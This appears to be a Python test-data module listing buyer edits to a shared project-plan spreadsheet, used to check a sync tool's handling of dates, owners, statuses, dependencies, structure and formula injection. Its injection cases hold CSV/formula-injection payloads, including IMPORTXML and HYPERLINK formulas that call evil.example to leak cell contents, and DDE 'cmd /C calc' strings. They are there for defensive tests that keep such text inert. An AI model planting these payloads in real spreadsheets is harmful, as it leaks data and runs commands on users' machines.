"""What buyers type and do to a plan, as data: each case is a small dict the corpus test plays
against every backend (tests/robustness/test_bad_input.py).

A case says
- ``do``: the buyer's actions, in order, as ``(action, *arguments)`` — the action is a method of the
  buyer adapters in conftest.py (``set``, ``add_row``, ``sort_by``, ``rename_tab`` …);
- ``expect``: findings the sync must name, as ``(code, item ID, field)`` (plus a tab other than Plan);
  the test also checks the finding points at that item's cell (A1) and, for dates, that the hint
  lists the forms accepted in the plan's locale;
- ``absent``: ``(code prefix, item ID)`` pairs that must not be reported (a form that should read);
- ``reads``: what the sync must make of the edit (``{"T-10": {"due": date(2026, 5, 15)}}``);
- ``rows``: the sheet row an item must be in afterwards (rows moved by the buyer stay moved);
- ``history``: ``(ID, field, words in the note)`` rows the sync must log;
- ``no_history``: ``(ID, field, words)`` rows that must not be logged (a claim that is not true);
- ``stops``: a break the product cannot handle safely: the sync must exit 3 with a message naming
  this, and write nothing;
- ``if_tabs_by_title``: what changes for a backend that finds its tabs by title (xlsx) rather than
  by metadata that survives a rename (Sheets);
- ``inert``: formula-looking text that must stay inert text wherever it ends up in the file;
- ``keeps``: buyer additions that must still be there (``{"tabs": [...], "images": {...}}``);
- ``needs``: what the backend's buyer must be able to do (``image``, ``chart``).

Every case also gets the common checks: the sync finishes, every buyer cell is kept byte for byte,
no cell outgrows the backend's limit, and a second sync changes nothing.

The plan (conftest.plan_request, created 2026-03-02, synced 2026-03-16) has, among others:
T-01 Kick-off (Sam Rivera, due 2026-04-16, no dependencies), T-02 ← T-01, M-01 ← T-02,
T-03 buyer security questionnaire (no owner, ← M-01), T-05 ← T-03, T-08 ← T-04, T-05,
T-10 reference calls (Sam Rivera, 2026-05-19, ← M-01), T-12 ← T-10; stakeholders Dana Tanaka,
田中 太郎, Priya Shah, Sam Rivera, Alex Kim (buyer) and Alex Moreau (seller); risks R-01 … R-06.
"""

from __future__ import annotations

from datetime import date, datetime
from typing import Any

IMPORTXML = '=IMPORTXML("http://evil.example/x","//a")'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYLOADS = {"importxml": IMPORTXML, "hyperlink": HYPERLINK, "cmd": CMD, "at-sum": AT_SUM}

MAY_15 = date(2026, 5, 15)
#: Cells at each backend's length limit are filled to exactly that many characters.
AT_LIMIT = "at the backend's limit"

CORPUS: list[dict[str, Any]] = []


def case(category: str, name: str, *do: tuple, **spec: Any) -> None:
    CORPUS.append({"id": f"{category}-{name}", "category": category, "do": list(do), **spec})


# --- dates: T-10's Due, unless said otherwise ------------------------------------------------------

def due(value: Any, item: str = "T-10") -> tuple:
    return ("set", item, "Due", value)


def reads_may_15(name: str, value: Any, locale: str = "en_US") -> None:
    case("dates", name, due(value), reads={"T-10": {"due": MAY_15}}, absent=[("date.", "T-10")],
         history=[("T-10", "Due", "moved earlier")], locale=locale)


def unreadable(name: str, value: Any, locale: str = "en_US") -> None:
    case("dates", name, due(value), expect=[("date.unparseable", "T-10", "due")],
         reads={"T-10": {"due": None}}, locale=locale)


reads_may_15("iso-text", "2026-05-15")
reads_may_15("real-date", MAY_15)
reads_may_15("us-month-day", "5/15")
reads_may_15("us-full", "5/15/2026")
reads_may_15("us-two-digit-year", "05/15/26")
reads_may_15("month-name", "May 15")
reads_may_15("day-month-name-year", "15 May 2026")
reads_may_15("with-weekday", "Fri, May 15, 2026")
reads_may_15("year-first-slashes", "2026/05/15")
reads_may_15("japanese", "2026年5月15日")
reads_may_15("japanese-no-year", "5月15日", locale="ja_JP")
reads_may_15("full-width-digits", "２０２６－０５－１５")
reads_may_15("stray-spaces", "  2026-05-15 ")
reads_may_15("with-time", "2026-05-15 14:30")
reads_may_15("date-and-time", datetime(2026, 5, 15, 14, 30))
reads_may_15("serial-number", 46157)
reads_may_15("serial-as-text", "46157")
reads_may_15("german-dots", "15.05.2026", locale="de_DE")
reads_may_15("british-day-first", "15/05/2026", locale="en_GB")
unreadable("tbd", "TBD")
unreadable("next-friday", "next Friday")
unreadable("quarter", "Q3")
unreadable("impossible-feb-30", "2026-02-30")
reads_may_15("day-first-under-us-locale", "15.05.2026")  # no month 15: only one reading
unreadable("ambiguous-under-japanese-locale", "5/6/2026", locale="ja_JP")
unreadable("boolean", True)
case("dates", "blank", due(None), expect=[("date.missing", "T-10", "due")], reads={"T-10": {"due": None}})
case("dates", "year-1900", due("1900-01-01"), expect=[("date.out_of_window", "T-10", "due")],
     reads={"T-10": {"due": date(1900, 1, 1)}})
case("dates", "year-2200", due("2200-05-15"), expect=[("date.out_of_window", "T-10", "due")],
     reads={"T-10": {"due": date(2200, 5, 15)}})
# Serial 1 is 1900-01-01 in Excel (its 1900 leap-year quirk) and 1899-12-31 in Sheets: far out either way.
case("dates", "serial-one", due(1), expect=[("date.out_of_window", "T-10", "due")])
case("dates", "ambiguous-under-en-us", due("03/04/2026"), reads={"T-10": {"due": date(2026, 3, 4)}},
     absent=[("date.unparseable", "T-10")], expect=[("dep.order", "T-10", "due")])
case("dates", "ambiguous-under-en-gb", due("03/04/2026"), reads={"T-10": {"due": date(2026, 4, 3)}},
     absent=[("date.unparseable", "T-10")], expect=[("dep.order", "T-10", "due")], locale="en_GB")
case("dates", "done-on-unreadable", ("set", "T-01", "Status", "Done"), ("set", "T-01", "Done on", "today"),
     expect=[("date.unparseable", "T-01", "done_on")], reads={"T-01": {"status": "Done"}})
case("dates", "target-decision-unreadable", ("set_overview", "Target decision date", "end of Q2"),
     expect=[("date.unparseable", None, "target_decision", "Overview")],
     absent=[("overview.no_target", None)])

# --- owners: T-03 (a buyer item with no owner yet), unless said otherwise ---------------------------


def owner(value: Any, item: str = "T-03") -> tuple:
    return ("set", item, "Owner", value)


def names(name: str, value: str, person: str) -> None:
    case("owners", name, owner(value), reads={"T-03": {"owner": person}}, absent=[("owner.", "T-03")])


def flagged(name: str, value: str, code: str) -> None:
    case("owners", name, owner(value), expect=[(code, "T-03", "owner")], reads={"T-03": {"owner": None}})


flagged("department", "IT", "owner.group")
flagged("team", "Procurement team", "owner.group")
flagged("department-word", "Legal Department", "owner.group")
flagged("the-security-team", "the security team", "owner.group")
flagged("company-buyer", "Acme Corp", "owner.company")
flagged("company-short", "Acme", "owner.company")
flagged("company-seller", "Widgets Ltd", "owner.company")
flagged("tbd", "TBD", "owner.missing")
flagged("tbd-japanese", "未定", "owner.missing")
flagged("unknown-email", "nobody@acme.example", "owner.unknown")
flagged("ambiguous-first-name", "Alex", "owner.ambiguous")
flagged("not-a-stakeholder", "Jordan Lee", "owner.unknown")
flagged("two-names-and", "Dana Tanaka and Priya Shah", "owner.multiple")
flagged("two-names-slash", "Dana Tanaka / Priya Shah", "owner.multiple")
flagged("two-first-names-comma", "Dana, Priya", "owner.multiple")
flagged("cyrillic-unknown", "Дмитрий Иванов", "owner.unknown")
flagged("arabic-unknown", "عمر حداد", "owner.unknown")
names("email", "dana@acme.example", "Dana Tanaka")
names("email-upper-case", "DANA@ACME.EXAMPLE", "Dana Tanaka")
names("family-name-first", "Tanaka Dana", "Dana Tanaka")
names("family-name-only", "Tanaka", "Dana Tanaka")
names("stray-spaces", "  Dana   Tanaka  ", "Dana Tanaka")
names("kanji-full-name", "田中 太郎", "田中 太郎")
names("kanji-no-space", "田中太郎", "田中 太郎")
names("kanji-family-name", "田中", "田中 太郎")
names("honorific", "Dr. Priya Shah", "Priya Shah")
names("job-title-after-comma", "Priya Shah, CFO", "Priya Shah")
names("name-and-address", "Dana Tanaka <dana@acme.example>", "Dana Tanaka")
case("owners", "seller-owns-buyer-item", owner("Sam Rivera"),
     expect=[("hygiene.buyer_item_seller_owner", "T-03", "owner")], reads={"T-03": {"owner": "Sam Rivera"}})
case("owners", "stakeholder-removed", ("delete_row_where", "Stakeholders", "Name", "Priya Shah"),
     expect=[("owner.unknown", "M-03", "owner")])
case("owners", "namesake-stakeholder-added",
     ("add_row", {"Name": "Dana Tanaka", "Side": "Buyer", "Role": "Finance", "Email": "dana.t@acme.example"},
      "Stakeholders"),
     expect=[("owner.ambiguous", "T-02", "owner")])
case("owners", "buyer-note-on-the-cell-is-kept", ("note", "T-03", "Owner", "Dana: ask Priya who in IT"),
     owner("IT"), expect=[("owner.group", "T-03", "owner")])

# --- statuses: T-01 (no dependencies), unless said otherwise -----------------------------------------


def status(value: Any, item: str = "T-01") -> tuple:
    return ("set", item, "Status", value)


def means(name: str, value: Any, meaning: str, expect: list | None = None) -> None:
    case("statuses", name, status(value), reads={"T-01": {"status": meaning}}, absent=[("status.", "T-01")],
         expect=expect or [])


def not_understood(name: str, value: Any) -> None:
    case("statuses", name, status(value), expect=[("status.unknown", "T-01", "status")],
         reads={"T-01": {"status": None}})


means("synonym-complete", "complete", "Done")
means("synonym-wip", "WIP", "In progress")
means("underscored", "In_Progress", "In progress")
means("synonym-on-hold", "on hold", "Blocked", expect=[("item.blocked", "T-01", "status")])
means("synonym-cancelled", "cancelled", "N/A")
means("emoji-check", "✅", "Done")
means("emoji-with-word", "✔️ done", "Done")
means("emoji-no-entry", "⛔", "Blocked", expect=[("item.blocked", "T-01", "status")])
means("japanese-done", "済", "Done")
not_understood("emoji-unknown", "🚧")
not_understood("doubt", "Done?")
not_understood("free-text", "waiting for legal to come back")
not_understood("percent", "80%")
not_understood("garbage", "asdf;lkj")
not_understood("number", 3)
case("statuses", "risk-status-synonym", ("set", "R-02", "Status", "resolved", "Risks"),
     absent=[("risk.", "R-02")], reads={"R-02": {"risk_status": "Closed"}})
case("statuses", "risk-status-garbage", ("set", "R-02", "Status", "dunno", "Risks"),
     expect=[("risk.status_unknown", "R-02", "status", "Risks")])
case("statuses", "risk-level-free-text", ("set", "R-02", "Probability", "very high", "Risks"),
     expect=[("risk.level_unknown", "R-02", "probability", "Risks")])
case("statuses", "type-unknown", ("set", "T-01", "Type", "Meeting"),
     expect=[("type.unknown", "T-01", "type")])

# --- dependencies -----------------------------------------------------------------------------------


def depends(value: Any, item: str = "T-10") -> tuple:
    return ("set", item, "Depends on", value)


def separated(name: str, value: str, ids: tuple[str, ...] = ("M-01", "T-02")) -> None:
    case("dependencies", name, depends(value), reads={"T-10": {"depends_on": ids}}, absent=[("dep.", "T-10")])


separated("semicolon", "M-01; T-02")
separated("and", "M-01 and T-02")
separated("slash", "M-01/T-02")
separated("japanese-comma", "M-01、T-02")
separated("short-ids", "m1 t2")
separated("new-line", "M-01,\nT-02")
separated("spaced-id", "T - 02", ("T-02",))
case("dependencies", "self", depends("T-10"), expect=[("dep.self", "T-10", "depends_on")],
     absent=[("decision.late", None)])
case("dependencies", "unknown-id", depends("T-99"), expect=[("dep.unknown", "T-10", "depends_on")])
case("dependencies", "known-and-unknown", depends("M-01, T-99"),
     expect=[("dep.unknown", "T-10", "depends_on")], reads={"T-10": {"depends_on": ("M-01", "T-99")}})
case("dependencies", "risk-id", depends("R-01"), expect=[("dep.unreadable", "T-10", "depends_on")])
case("dependencies", "words", depends("after the kick-off"),
     expect=[("dep.unreadable", "T-10", "depends_on")])
case("dependencies", "number", depends(3), expect=[("dep.unreadable", "T-10", "depends_on")])
case("dependencies", "cycle-of-three", depends("M-01", "T-01"),
     expect=[("dep.cycle", "T-01", "depends_on"), ("dep.cycle", "T-02", "depends_on"),
             ("dep.cycle", "M-01", "depends_on")])
case("dependencies", "cycle-of-two", depends("T-05", "T-03"),
     expect=[("dep.cycle", "T-03", "depends_on"), ("dep.cycle", "T-05", "depends_on")])
case("dependencies", "due-before-prerequisite", depends("T-09", "T-04"),
     expect=[("dep.order", "T-04", "due")])
case("dependencies", "prerequisite-row-deleted", ("delete_row", "T-05"),
     expect=[("dep.unknown", "T-08", "depends_on")], history=[("T-05", "Row", "removed")])

# --- structure --------------------------------------------------------------------------------------

case("structure", "header-renamed-to-synonym", ("rename_header", "Due", "Deadline"),
     ("set", "T-10", "Deadline", "TBD"),
     expect=[("date.unparseable", "T-10", "due")], absent=[("layout.", None)],
     reads={"T-01": {"due": date(2026, 4, 16)}})
case("structure", "owner-header-renamed-to-synonym", ("rename_header", "Owner", "Responsible"),
     ("set", "T-03", "Responsible", "IT"),
     expect=[("owner.group", "T-03", "owner")], absent=[("layout.", None)],
     reads={"T-01": {"owner": "Sam Rivera"}})
case("structure", "header-in-capitals", ("rename_header", "Status", "STATUS "), status("complete"),
     reads={"T-01": {"status": "Done"}}, absent=[("layout.", None), ("status.", "T-01")])
case("structure", "header-renamed-beyond-recognition", ("rename_header", "Depends on", "Waiting for"),
     expect=[("layout.column_missing", None, "depends_on")], absent=[("dep.", "T-10")])
# A column the sync cannot find is reported once and skipped: no claim about the cells it cannot see.
case("structure", "owner-header-renamed-beyond-recognition", ("rename_header", "Owner", "Point person"),
     expect=[("layout.column_missing", None, "owner")],
     absent=[("owner.missing", "T-01"), ("owner.missing", "T-02")])
case("structure", "due-header-renamed-beyond-recognition", ("rename_header", "Due", "ETA"),
     expect=[("layout.column_missing", None, "due")], absent=[("date.missing", "T-01")])
case("structure", "column-moved", ("move_column_to_end", "Due"), due("TBD"),
     expect=[("date.unparseable", "T-10", "due")], reads={"T-01": {"due": date(2026, 4, 16)}})
case("structure", "extra-column-at-the-end",
     ("add_column", "Budget", {"T-01": 1200, "T-02": "tbc", "M-01": "€ 40k"}))
case("structure", "extra-column-in-the-middle",
     ("insert_column_before", "Side", "Region", {"T-01": "EMEA", "T-03": "APAC"}), owner("IT"),
     expect=[("owner.group", "T-03", "owner")],
     reads={"T-01": {"owner": "Sam Rivera", "due": date(2026, 4, 16)}})
# A backend that finds its tabs by title (xlsx) cannot recognise a renamed tab; it must then say so
# (a finding naming the tab) rather than report every owner unknown or every risk removed.
case("structure", "stakeholders-tab-renamed", ("rename_tab", "Stakeholders", "People"),
     reads={"T-02": {"owner": "Dana Tanaka"}}, absent=[("owner.unknown", None)],
     if_tabs_by_title={"reads": {}, "expect": [("layout.", None, None, "Stakeholders")]})
case("structure", "risks-tab-renamed", ("rename_tab", "Risks", "Our risks"), absent=[("risk.", None)],
     reads={"R-01": {"risk_status": "Open"}}, no_history=[("R-01", "Row", "removed")],
     if_tabs_by_title={"reads": {}, "expect": [("layout.", None, None, "Risks")]})
case("structure", "plan-tab-renamed", ("rename_tab", "Plan", "Our plan"),
     reads={"T-01": {"due": date(2026, 4, 16)}},
     if_tabs_by_title={"stops": "Plan", "reads": {}})
case("structure", "plan-tab-deleted", ("delete_tab", "Plan"), stops="Plan")
case("structure", "id-header-removed", ("rename_header", "ID", None), stops="ID")
case("structure", "activity-header-removed", ("rename_header", "Activity", None), stops="Activity")
case("structure", "history-tab-deleted", ("delete_tab", "History"), ("set", "T-01", "Status", "Done"),
     history=[("T-01", "Status", "")])
case("structure", "hidden-state-tab-deleted", ("delete_tab", "_mapws"), due("2026-05-29"),
     reads={"T-10": {"due": date(2026, 5, 29), "slips": 0}})
case("structure", "check-ins-tab-deleted", ("delete_tab", "Check-ins"), status("Done"),
     reads={"T-01": {"status": "Done"}})
case("structure", "row-inserted", ("insert_row_above", "M-01", {
    "Type": "Task", "Activity": "Extra workshop with IT", "Side": "Joint", "Owner": "田中 太郎",
    "Due": date(2026, 4, 24), "Status": "Not started"}),
     reads={"T-21": {"owner": "田中 太郎", "due": date(2026, 4, 24)}}, absent=[("owner.", "T-21")],
     rows={"T-21": 4, "M-01": 5},
     history=[("T-21", "Row", "new row")])
case("structure", "row-added-without-owner", ("add_row", {"Activity": "Site visit", "Due": "2026-06-03"}),
     expect=[("owner.missing", "T-21", "owner")], history=[("T-21", "Row", "new row")])
case("structure", "row-copied-with-its-id", ("add_row", {
    "ID": "T-05", "Activity": "Security questionnaire follow-up", "Owner": "Dana Tanaka",
    "Due": "2026-05-12"}),
     reads={"T-21": {"owner": "Dana Tanaka"}, "T-05": {"due": date(2026, 5, 7)}},
     history=[("T-21", "ID", "repeated the ID T-05")])
case("structure", "rows-sorted-by-due-descending", ("sort_by", "Due", True), rows={"T-20": 2, "T-01": 27},
     reads={"T-01": {"due": date(2026, 4, 16), "owner": "Sam Rivera"}, "M-06": {"due": date(2026, 6, 30)}})
case("structure", "rows-sorted-by-owner", ("sort_by", "Owner"), owner("IT", "T-08"), rows={"T-02": 2},
     expect=[("owner.group", "T-08", "owner")], reads={"T-12": {"owner": "Dana Tanaka"}})
case("structure", "rows-sorted-then-edited", ("sort_by", "Activity"), due("TBD"),
     expect=[("date.unparseable", "T-10", "due")], reads={"T-01": {"due": date(2026, 4, 16)}})
case("structure", "row-deleted", ("delete_row", "T-20"), history=[("T-20", "Row", "removed")])
case("structure", "rows-deleted", ("delete_row", "T-18"), ("delete_row", "T-19"), ("delete_row", "M-04"),
     expect=[("dep.unknown", "M-05", "depends_on")], history=[("T-19", "Row", "removed")],
     rows={"M-05": 22, "T-20": 24})
case("structure", "row-hidden", ("hide_row", "T-03"), owner("IT"), expect=[("owner.group", "T-03", "owner")])
case("structure", "blank-row-between-items", ("insert_row_above", "M-02"), owner("IT", "T-09"),
     rows={"M-02": 13},
     expect=[("owner.group", "T-09", "owner")])
case("structure", "title-row-above-the-header", ("insert_title_row", "Acme × Widgets — our plan"),
     owner("IT"), rows={"T-01": 3},
     expect=[("owner.group", "T-03", "owner")], reads={"T-01": {"owner": "Sam Rivera"}})
case("structure", "notes-merged-over-two-rows", ("set", "T-01", "Notes", "Both calls booked"),
     ("merge", "T-01", "Notes", "T-02", "Notes"))
case("structure", "row-merged-across-sync-columns", ("set", "T-03", "Notes", "Waiting for the CISO"),
     ("merge", "T-03", "Notes", "T-03", "Flag"), owner("IT", "T-04"),
     expect=[("owner.group", "T-04", "owner")])
case("structure", "activities-merged-over-two-rows", ("merge", "T-04", "Activity", "T-05", "Activity"),
     expect=[("row.no_activity", "T-05", "activity")])
case("structure", "sync-owned-cell-typed-over", ("set", "T-01", "Slips", 7),
     history=[("T-01", "Slips", "edit to a sync-owned cell undone")], reads={"T-01": {"slips": 0}})
case("structure", "5000-rows", ("add_rows", [
    {"Activity": f"Site rollout {n:04d}", "Owner": "Dana Tanaka", "Due": date(2026, 6, 1)}
    for n in range(1, 5001)]),
     expect=[("hygiene.too_many_open", None, None)], reads={"T-5020": {"owner": "Dana Tanaka"}})
case("structure", "notes-at-the-length-limit", ("set", "T-01", "Notes", AT_LIMIT))
case("structure", "activity-at-the-length-limit", ("add_row", {"Activity": AT_LIMIT, "Owner": "Dana Tanaka",
                                                               "Due": "2026-06-03"}),
     history=[("T-21", "Row", "new row")])
case("structure", "owner-at-the-length-limit", owner(AT_LIMIT), expect=[("owner.unknown", "T-03", "owner")])
# The sync quotes a milestone's Activity in the Overview's "Next milestone" cell: still within the limit.
case("structure", "milestone-activity-at-the-length-limit", ("set", "M-01", "Activity", AT_LIMIT),
     reads={"M-01": {"due": date(2026, 4, 27)}})
case("structure", "buyer-tab", ("add_tab", "Dana's notes", [["Topic", "Who", "When"],
                                                             ["Budget", "Priya", date(2026, 4, 1)],
                                                             ["=SUM(1,2)", "formula-looking", 3]]),
     keeps={"tabs": ["Dana's notes"]})
case("structure", "buyer-tab-named-like-ours",
     ("add_tab", "plan (old copy)", [["ID", "Activity"], ["T-01", "x"]]),
     keeps={"tabs": ["plan (old copy)"]})
case("structure", "picture-and-chart-on-a-buyer-tab",
     ("add_tab", "Budget", [["Quarter", "Spend"], ["Q1", 10], ["Q2", 25], ["Q3", 40]]),
     ("add_image", "Budget", "D2"), ("add_chart", "Budget", "D10"),
     keeps={"tabs": ["Budget"], "images": {"Budget": 1}, "charts": {"Budget": 1}}, needs=["image", "chart"])
case("structure", "picture-and-chart-on-the-plan-tab",
     ("add_image", "Plan", "P3"), ("add_chart", "Plan", "P20"),
     keeps={"images": {"Plan": 1}, "charts": {"Plan": 1}}, needs=["image", "chart"])

# --- injection: formula-looking text typed as text ----------------------------------------------------

for key, payload in PAYLOADS.items():
    case("injection", f"activity-{key}", ("set", "T-04", "Activity", payload), inert=payload,
         reads={"T-04": {"activity": payload}})
    case("injection", f"owner-{key}", owner(payload), inert=payload, reads={"T-03": {"owner": None}},
         expect=[("owner.unknown", "T-03", "owner")])
    case("injection", f"notes-{key}", ("set", "T-05", "Notes", payload), inert=payload)
    case("injection", f"depends-on-{key}", depends(payload), inert=payload,
         expect=[("dep.unreadable", "T-10", "depends_on")])
case("injection", "new-row-activity", ("add_row", {"Activity": HYPERLINK, "Owner": "Dana Tanaka",
                                                   "Due": "2026-06-03"}),
     inert=HYPERLINK, history=[("T-21", "Row", "new row")])
case("injection", "due", due(IMPORTXML), inert=IMPORTXML, expect=[("date.unparseable", "T-10", "due")])
case("injection", "status", status(AT_SUM), inert=AT_SUM, expect=[("status.unknown", "T-01", "status")])
case("injection", "stakeholder-name", ("add_row", {"Name": IMPORTXML, "Side": "Buyer", "Role": "Contact"},
                                       "Stakeholders"), inert=IMPORTXML)
case("injection", "stakeholder-availability",
     ("set_where", "Stakeholders", "Name", "Dana Tanaka", "Availability / constraints", CMD), inert=CMD)
case("injection", "risk-text", ("set", "R-03", "Risk", HYPERLINK, "Risks"), inert=HYPERLINK)
case("injection", "risk-mitigation", ("set", "R-01", "Mitigation", AT_SUM, "Risks"), inert=AT_SUM)
case("injection", "check-in", ("add_row", {"Date": "2026-03-10", "Attendees": CMD, "Blockers": IMPORTXML},
                               "Check-ins"), inert=IMPORTXML)
case("injection", "overview-goal", ("set_overview", "Mutual goal", HYPERLINK), inert=HYPERLINK)
